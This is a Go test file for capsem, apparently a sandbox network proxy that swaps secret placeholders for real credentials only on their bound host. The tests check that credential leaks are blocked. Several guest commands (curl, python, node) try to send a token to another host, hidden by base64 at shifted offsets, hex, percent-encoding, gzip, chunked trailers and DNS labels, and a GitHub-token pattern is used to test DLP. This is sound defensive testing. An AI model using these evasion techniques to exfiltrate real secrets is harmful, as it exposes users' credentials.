package tests

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/capsem/capsem/store"
)

// secretsEnv is a namespace guest with two secrets bound to api.test:
// TOKEN, substituted where credentials live (the default: header and
// query), and BODY_TOKEN, substituted everywhere (in = header, query,
// path, body). other.test is allowed but not bound. Both hosts are one
// recording upstream.
type secretsEnv struct {
	*env
	real, ph         string
	bodyReal, bodyPh string
	rec              *recorder
	policy           func(dlp string) string
}

// recorder is an upstream that keeps what each request carried.
type recorder struct {
	mu   sync.Mutex
	reqs []recorded
}

type recorded struct {
	host, uri string
	header    http.Header
	body      []byte
	bodyLen   int
	basicPass string
	complete  bool // the body ended as its framing said: the request was whole
}

func (rc *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	_, pass, _ := r.BasicAuth()
	rec := recorded{host: r.Host, uri: r.RequestURI, header: r.Header.Clone(), body: body, bodyLen: len(body), basicPass: pass, complete: err == nil}
	for k, v := range r.Trailer {
		rec.header["Trailer-"+k] = v
	}
	rc.mu.Lock()
	rc.reqs = append(rc.reqs, rec)
	rc.mu.Unlock()
	switch r.URL.Path {
	case "/echo":
		echoBack(w, r, body) // secrets_reflect_test.go
	case "/reflect":
		// Reflects the credential, as an API echoing a request would.
		auth := r.Header.Get("Authorization")
		w.Header().Set("X-Echo", auth)
		w.Header().Set("Content-Length", fmt.Sprint(len("you sent "+auth+" and ")+len(body)))
		io.WriteString(w, "you sent "+auth+" and ")
		w.Write(body)
	default:
		fmt.Fprintf(w, "ok %s n=%d", r.URL.Path, len(body))
	}
}

// with returns the requests whose URI contains mark.
func (rc *recorder) with(mark string) []recorded {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	var out []recorded
	for _, r := range rc.reqs {
		if strings.Contains(r.uri, mark) {
			out = append(out, r)
		}
	}
	return out
}

// anywhere reports whether any recorded request holds v anywhere.
func (rc *recorder) anywhere(v string) bool {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	for _, r := range rc.reqs {
		if strings.Contains(r.uri, v) || bytes.Contains(r.body, []byte(v)) || strings.Contains(r.basicPass, v) {
			return true
		}
		for k, vv := range r.header {
			if strings.Contains(k+strings.Join(vv, ","), v) {
				return true
			}
		}
	}
	return false
}

func startSecrets(t *testing.T) *secretsEnv {
	needHarness(t)
	ca := newTestCA(t, "tests upstream CA")
	s := &secretsEnv{rec: &recorder{}}
	port := startHTTPS(t, ca, s.rec, "api.test", "other.test")
	var tokenFile string
	s.real, s.bodyReal, tokenFile = writeTokenFiles(t)
	s.policy = func(dlp string) string { return secretsPolicy(port, ca.pemPath, tokenFile, dlp) }
	s.env = startEnv(t, s.policy("log"), envOptions{})
	s.ph, s.bodyPh = s.placeholders()["TOKEN"], s.placeholders()["BODY_TOKEN"]
	for _, ph := range []string{s.ph, s.bodyPh} {
		if !strings.HasPrefix(ph, "capsem-secret-") || len(ph) != len("capsem-secret-")+32 {
			t.Fatalf("placeholder %q", ph)
		}
	}
	if !strings.Contains(s.out.String(), "TOKEN="+s.ph) {
		t.Errorf("capsem-net did not print the placeholder:\n%s", s.out.String())
	}
	return s
}

// writeTokenFiles makes the real values of TOKEN and BODY_TOKEN and the
// files the policy reads them from (tokenFile, and tokenFile+".body").
func writeTokenFiles(t *testing.T) (real, bodyReal, tokenFile string) {
	b := make([]byte, 40)
	rand.Read(b)
	real, bodyReal = "rv-"+hex.EncodeToString(b[:20]), "bv-"+hex.EncodeToString(b[20:])
	tokenFile = filepath.Join(t.TempDir(), "token.txt")
	if err := os.WriteFile(tokenFile, []byte(real+"\nsecond line ignored\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tokenFile+".body", []byte(bodyReal+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return real, bodyReal, tokenFile
}

// secretsPolicy is the secrets tests' policy: api.test and other.test at
// the upstream on port, TOKEN (its real value the first line of tokenFile)
// and BODY_TOKEN (tokenFile.body, substituted in bodies too) bound to
// api.test, *.wild.test allowed, and [dlp] action dlp.
func secretsPolicy(port int, caPath, tokenFile, dlp string) string {
	return fmt.Sprintf(`
[network]
allow = ["other.test", "*.wild.test"]

[upstream]
resolve = { "api.test" = "127.0.0.1:%d", "other.test" = "127.0.0.1:%d" }
ca_files = [%q]

[[secret]]
name = "TOKEN"
from_file = %q
hosts = ["api.test"]

[[secret]]
name = "BODY_TOKEN"
from_file = %q
hosts = ["api.test"]
in = ["header", "query", "path", "body"]

[dlp]
action = %q
`, port, port, caPath, tokenFile, tokenFile+".body", dlp)
}

// placeholders reads the placeholders capsem-net gave the guest.
func (e *env) placeholders() map[string]string {
	e.t.Helper()
	path := filepath.Join(e.dataDir, "placeholders.json")
	st, err := os.Stat(path)
	if err != nil {
		e.t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		e.t.Errorf("placeholders.json mode %v, want 0600", st.Mode().Perm())
	}
	b, _ := os.ReadFile(path)
	var m map[string]string
	if err := json.Unmarshal(b, &m); err != nil {
		e.t.Fatalf("placeholders.json: %v\n%s", err, b)
	}
	return m
}

// guest runs a command in the guest with TOKEN and BODY_TOKEN set to their
// placeholders.
func (s *secretsEnv) guest(name string, args ...string) (string, error) {
	return s.runEnv(60*time.Second, append(s.trustEnv(), "TOKEN="+s.ph, "BODY_TOKEN="+s.bodyPh), name, args...)
}

func pctAll(v string) string {
	var b strings.Builder
	for i := 0; i < len(v); i++ {
		fmt.Fprintf(&b, "%%%02X", v[i])
	}
	return b.String()
}

func TestSecretsSubstitutedForTheirHostOnly(t *testing.T) {
	s := startSecrets(t)
	real, ph := s.real, s.ph

	// Header (Bearer and another) and query (raw and percent-encoded) by
	// default; path and body only for BODY_TOKEN, whose in says so: TOKEN
	// reaches them as its placeholder. Over HTTP/1.1 and HTTP/2.
	for _, proto := range []string{"--http1.1", "--http2"} {
		mark := "sub" + strings.TrimLeft(proto, "-")
		out, err := s.guest("sh", "-c", `curl -sS --max-time 20 `+proto+` -w ' %{http_code} %{http_version}' -H "Authorization: Bearer $TOKEN" -H "X-Other: pre-$TOKEN-post" --data-binary "body:$TOKEN:$BODY_TOKEN:end" "https://api.test/rec/$TOKEN/$BODY_TOKEN?m=`+mark+`&k=$TOKEN&e=`+pctAll(ph)+`"`)
		if err != nil || !strings.Contains(out, " 200 ") {
			t.Fatalf("%s: %v %s", proto, err, out)
		}
		got := s.rec.with(mark)
		if len(got) != 1 {
			t.Fatalf("%s: upstream saw %d requests", proto, len(got))
		}
		r := got[0]
		body := "body:" + ph + ":" + s.bodyReal + ":end"
		for _, c := range []struct{ what, got, want string }{
			{"Authorization", r.header.Get("Authorization"), "Bearer " + real},
			{"X-Other", r.header.Get("X-Other"), "pre-" + real + "-post"},
			{"URI", r.uri, "/rec/" + ph + "/" + s.bodyReal + "?m=" + mark + "&k=" + real + "&e=" + real},
			{"body", string(r.body), body},
		} {
			if c.got != c.want {
				t.Errorf("%s %s: upstream got %q, want %q", proto, c.what, c.got, c.want)
			}
		}
		if cl := r.header.Get("Content-Length"); proto == "--http1.1" && cl != fmt.Sprint(len(body)) {
			t.Errorf("%s: Content-Length %q for a %d-byte body", proto, cl, r.bodyLen)
		}
	}

	// Basic credentials: decoded, replaced, encoded again.
	if out, err := s.guest("sh", "-c", `curl -sS --max-time 20 -u "user:$TOKEN" "https://api.test/rec?m=basic"`); err != nil {
		t.Fatalf("basic: %v %s", err, out)
	}
	if got := s.rec.with("m=basic"); len(got) != 1 || got[0].basicPass != real {
		t.Errorf("Basic: upstream got %+v", got)
	}

	// python: a chunked body of 3 MiB with BODY_TOKEN's placeholder cut
	// across write boundaries; node: fetch with a JSON body.
	out, err := s.guest("python3", "-c", `
import http.client, os, ssl
ph = os.environ["BODY_TOKEN"].encode()
def chunks():
    for i in range(48):
        block = bytearray(os.urandom(65536).hex()[:65536].encode())
        block[-7:] = ph[:7]
        yield bytes(block)
        yield ph[7:] + b"|"
c = http.client.HTTPSConnection("api.test", context=ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]), timeout=60)
c.request("POST", "/rec?m=pystream", body=chunks(), encode_chunked=True)
r = c.getresponse()
print(r.status, r.read().decode())
`)
	if err != nil || !strings.HasPrefix(out, "200") {
		t.Fatalf("python stream: %v %s", err, out)
	}
	if got := s.rec.with("m=pystream"); len(got) != 1 || bytes.Count(got[0].body, []byte(s.bodyReal)) != 48 || bytes.Contains(got[0].body, []byte(s.bodyPh)) {
		t.Errorf("python stream: upstream got %d requests, %d real values", len(got), bytes.Count(got[0].body, []byte(s.bodyReal)))
	}
	out, err = s.guest("node", "-e", `
fetch("https://api.test/rec?m=node", {method: "POST", headers: {"x-api-key": process.env.TOKEN, "content-type": "application/json"},
  body: JSON.stringify({key: process.env.BODY_TOKEN, k2: process.env.TOKEN})}).then(r => r.text()).then(t => console.log(t)).catch(e => { console.error(e); process.exit(1) })`)
	if err != nil {
		t.Fatalf("node: %v %s", err, out)
	}
	if got := s.rec.with("m=node"); len(got) != 1 || got[0].header.Get("X-Api-Key") != real || string(got[0].body) != `{"key":"`+s.bodyReal+`","k2":"`+ph+`"}` {
		t.Errorf("node: upstream got %+v", got)
	}

	// A reflecting endpoint: the guest gets the placeholder back.
	out, err = s.guest("sh", "-c", `curl -sS -i --max-time 20 -H "Authorization: Bearer $TOKEN" --data-binary "again $TOKEN" https://api.test/reflect`)
	if err != nil || strings.Contains(out, real) || strings.Count(out, ph) != 3 {
		t.Errorf("reflection: %v, the guest got:\n%s", err, out)
	}

	evs := s.stop()
	if n := httpEvent(evs, "POST", "/rec"); n == nil || n.Decision != store.Allowed {
		t.Errorf("no allowed event for the substituted requests:\n%s", dumpEvents(evs))
	}
	assertNowhere(t, s.dataDir, real)
	assertNowhere(t, s.dataDir, s.bodyReal)
}

func TestSecretsLeaksAreRefused(t *testing.T) {
	s := startSecrets(t)
	real, ph := s.real, s.ph
	b64 := func(pre string) string { return base64.StdEncoding.EncodeToString([]byte(pre + ph + "x")) }
	cases := []struct {
		name, args, reason, why string
	}{
		{"header", `-H "X-Key: $TOKEN" https://other.test/rec?m=leak-header`, "secret-wrong-host", "a placeholder to an unbound host"},
		{"bearer", `-H "Authorization: Bearer $TOKEN" https://other.test/rec?m=leak-bearer`, "secret-wrong-host", "the usual place"},
		{"basic", `-u "u:$TOKEN" https://other.test/rec?m=leak-basic`, "secret-wrong-host", "base64 in a Basic credential"},
		{"query", `"https://other.test/rec?m=leak-query&k=$TOKEN"`, "secret-wrong-host", "raw in the URL"},
		{"percent", `"https://other.test/rec?m=leak-percent&k=` + pctAll(ph) + `"`, "secret-wrong-host", "percent-encoded in the URL"},
		{"path", `"https://other.test/rec/` + ph + `?m=leak-path"`, "secret-wrong-host", "in the path"},
		{"body", `--data-binary "x=$TOKEN" https://other.test/rec?m=leak-body`, "secret-wrong-host", "raw in the body"},
		{"base64-0", `--data-binary "` + b64("") + `" https://other.test/rec?m=leak-b64-0`, "secret-wrong-host", "base64, aligned"},
		{"base64-1", `--data-binary "` + b64("a") + `" https://other.test/rec?m=leak-b64-1`, "secret-wrong-host", "base64 after one byte"},
		{"base64-2", `--data-binary "` + b64("ab") + `" https://other.test/rec?m=leak-b64-2`, "secret-wrong-host", "base64 after two bytes"},
		{"base64url", `--data-binary "` + base64.RawURLEncoding.EncodeToString([]byte("\xff\xfe"+ph)) + `" https://other.test/rec?m=leak-b64url`, "secret-wrong-host", "base64url"},
		{"hex", `--data-binary "` + hex.EncodeToString([]byte(ph)) + `" https://other.test/rec?m=leak-hex`, "secret-wrong-host", "hex"},
		{"HEX", `-H "X-H: ` + strings.ToUpper(hex.EncodeToString([]byte(ph))) + `" https://other.test/rec?m=leak-HEX`, "secret-wrong-host", "upper-case hex in a header"},
		{"real to other", `-H "X-Key: ` + real + `" https://other.test/rec?m=leak-real-other`, "secret-real-value", "the real value can only have leaked"},
		{"real to its host", `--data-binary "` + real + `" https://api.test/rec?m=leak-real-own`, "secret-real-value", "even to its own host"},
		{"real base64", `--data-binary "` + base64.StdEncoding.EncodeToString([]byte(real)) + `" https://api.test/rec?m=leak-real-b64`, "secret-real-value", "in any form"},
	}
	for _, proto := range []string{"--http1.1", "--http2"} {
		for _, c := range cases {
			args := strings.ReplaceAll(c.args, "?m=", "?p="+proto[2:]+"&m=")
			out, err := s.guest("sh", "-c", `curl -sS --max-time 20 `+proto+` -D - `+args)
			if err != nil {
				t.Errorf("%s %s: %v %s", proto, c.name, err, out)
				continue
			}
			if !strings.Contains(out, " 403") || !strings.Contains(strings.ToLower(out), "x-capsem-blocked: "+c.reason) || !strings.Contains(out, "secret TOKEN") {
				t.Errorf("%s %s (%s): want a 403 %s naming TOKEN, got:\n%s", proto, c.name, c.why, c.reason, out)
			}
			if strings.Contains(out, real) {
				t.Errorf("%s %s: the answer holds the real value", proto, c.name)
			}
		}
	}
	// A leak at the end of a streamed 2 MiB body: the request is cut, and
	// the upstream never gets the placeholder.
	out, err := s.guest("python3", "-c", `
import http.client, os, ssl
ph = os.environ["TOKEN"].encode()
def chunks():
    for i in range(32):
        yield os.urandom(32768).hex().encode()
    yield b"tail " + ph[:10]
    yield ph[10:] + b" end"
c = http.client.HTTPSConnection("other.test", context=ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]), timeout=60)
try:
    c.request("POST", "/rec?m=leak-stream", body=chunks(), encode_chunked=True)
    r = c.getresponse()
    print(r.status, r.getheader("X-Capsem-Blocked"))
except Exception as e:
    print("cut", repr(e))
`)
	if err != nil || !(strings.Contains(out, "403 secret-wrong-host") || strings.HasPrefix(out, "cut")) {
		t.Errorf("streamed leak: %v %s", err, out)
	}
	// A coded body is scanned decoded: gzip hides nothing.
	for _, proto := range []string{"--http1.1", "--http2"} {
		out, err := s.guest("sh", "-c", `printf 'x=%s' "$TOKEN" | gzip | curl -sS --max-time 20 `+proto+` -D - -H 'Content-Encoding: gzip' --data-binary @- "https://other.test/rec?m=leak-gzip"`)
		if err != nil || !strings.Contains(out, " 403") || !strings.Contains(strings.ToLower(out), "x-capsem-blocked: secret-wrong-host") {
			t.Errorf("%s a gzipped leak: %v\n%s", proto, err, out)
		}
	}

	// A placeholder is a valid DNS label: a name under an allowed wildcard
	// holding it gets NXDOMAIN, and never reaches a resolver.
	if st, _ := s.digStatus(ph + ".wild.test"); st != "NXDOMAIN" {
		t.Errorf("a name holding the placeholder: %s, want NXDOMAIN", st)
	}
	if st, n := s.digStatus("fine.wild.test"); st != "NOERROR" || n != 1 {
		t.Errorf("fine.wild.test: %s with %d answers", st, n)
	}

	// A trailer, which arrives after the body: checked before the body's
	// end is passed on.
	out, err = s.guest("node", "-e", `
const https = require("https");
const req = https.request({host: "other.test", path: "/rec?m=leak-trailer", method: "POST", headers: {"Trailer": "X-Key", "Transfer-Encoding": "chunked"}}, res => {
  console.log(res.statusCode, res.headers["x-capsem-blocked"]); res.resume();
});
req.on("error", e => console.log("cut", e.code));
req.write("some body");
req.addTrailers({"X-Key": process.env.TOKEN});
req.end();`)
	if err != nil || !(strings.Contains(out, "403 secret-wrong-host") || strings.HasPrefix(out, "cut")) {
		t.Errorf("a trailer leak: %v %s", err, out)
	}
	for _, r := range s.rec.with("m=leak") {
		// A streamed body reaches the upstream up to the bytes held back
		// before the placeholder (or its trailer), and is then cut: never a
		// whole request.
		if r.complete || !strings.Contains(r.uri, "m=leak-stream") && !strings.Contains(r.uri, "m=leak-trailer") {
			t.Errorf("the upstream got a refused request: %s (%d bytes, complete %v)", r.uri, r.bodyLen, r.complete)
		}
	}
	if s.rec.anywhere(ph) || s.rec.anywhere(real) {
		t.Error("an upstream received the placeholder or the real value")
	}
	evs := s.stop()
	for _, reason := range []string{"secret-wrong-host", "secret-real-value"} {
		n := netEvent(evs, func(n *store.Net) bool { return n.Reason == reason })
		if n == nil || n.Decision != store.Denied || n.MatchedRule != "TOKEN" || n.StatusCode != 403 {
			t.Errorf("no denied %s event naming TOKEN: %+v\n%s", reason, n, dumpEvents(evs))
		}
	}
	if d := dnsEvent(evs, func(d *store.DNS) bool { return strings.HasPrefix(d.QName, ph) }); d == nil || d.Reason != "secret-wrong-host" || d.MatchedRule != "TOKEN" {
		t.Errorf("the DNS event of the name holding the placeholder: %+v", d)
	}
	if n := netEvent(evs, func(n *store.Net) bool { return strings.Contains(n.Query, "leak-stream") }); n == nil || n.Reason != "secret-wrong-host" {
		t.Errorf("the streamed leak's event: %+v", n)
	}
	assertNowhere(t, s.dataDir, real)
}

func TestSecretsDLPLogThenBlock(t *testing.T) {
	s := startSecrets(t)
	token := "ghp_" + strings.Repeat("A1b2C3d4E5", 4)[:36]
	out, err := s.guest("sh", "-c", `curl -sS --max-time 20 -w ' %{http_code}' --data-binary "token=`+token+`" "https://other.test/rec?m=dlp-log"`)
	if err != nil || !strings.HasSuffix(out, " 200") {
		t.Fatalf("log mode: %v %s", err, out)
	}
	before := s.placeholders()
	if err := os.WriteFile(s.policyPath, []byte(s.policy("block")), 0o644); err != nil {
		t.Fatal(err)
	}
	s.signal(syscall.SIGHUP)
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(s.out.String(), "policy reloaded") && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if after := s.placeholders(); after["TOKEN"] != before["TOKEN"] {
		t.Errorf("the reload changed the placeholder the guest holds: %q → %q", before["TOKEN"], after["TOKEN"])
	}
	for _, c := range []struct{ name, args, rule string }{
		{"body", `--data-binary "token=` + token + `" "https://other.test/rec?m=dlp-body"`, "github-token@body@6"},
		{"header", `-H "Authorization: token ` + token + `" "https://other.test/rec?m=dlp-header"`, "github-token@Authorization"},
		{"url", `"https://other.test/rec?m=dlp-url&t=` + token + `"`, "github-token@url"},
	} {
		out, err := s.guest("sh", "-c", `curl -sS --max-time 20 -D - `+c.args)
		if err != nil || !strings.Contains(out, " 403") || !strings.Contains(strings.ToLower(out), "x-capsem-blocked: dlp-match") || !strings.Contains(out, "github-token") || strings.Contains(out, token) {
			t.Errorf("block %s: %v\n%s", c.name, err, out)
		}
	}
	if got := s.rec.with("m=dlp-"); len(got) != 1 {
		t.Errorf("the upstream got %d DLP requests, want only the logged one", len(got))
	}
	evs := s.stop()
	logged := netEvent(evs, func(n *store.Net) bool { return strings.Contains(n.Query, "dlp-log") })
	if logged == nil || logged.Decision != store.Allowed || logged.Reason != "dlp-match" || logged.MatchedRule != "github-token@body@6" {
		t.Errorf("logged event: %+v", logged)
	}
	for _, c := range []struct{ mark, rule string }{{"dlp-body", "github-token@body@6"}, {"dlp-header", "github-token@Authorization"}, {"dlp-url", "github-token@url"}} {
		n := netEvent(evs, func(n *store.Net) bool { return strings.Contains(n.Query, c.mark) })
		if n == nil || n.Decision != store.Denied || n.Reason != "dlp-match" || n.MatchedRule != c.rule {
			t.Errorf("%s event: %+v", c.mark, n)
		}
	}
}

// assertNowhere fails when v is in any file under dir, or in a SQLite
// export of it.
func assertNowhere(t *testing.T, dir, v string) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "export.sqlite")
	if b, err := exec.Command(capsemBin, "export", "--sqlite", out, "--data", dir, "--all").CombinedOutput(); err != nil {
		t.Fatalf("capsem export: %v\n%s", err, b)
	}
	for _, root := range []string{dir, filepath.Dir(out)} {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return nil
			}
			b, _ := os.ReadFile(p)
			if bytes.Contains(b, []byte(v)) {
				t.Errorf("%s holds the real value", p)
			}
			return nil
		})
	}
}
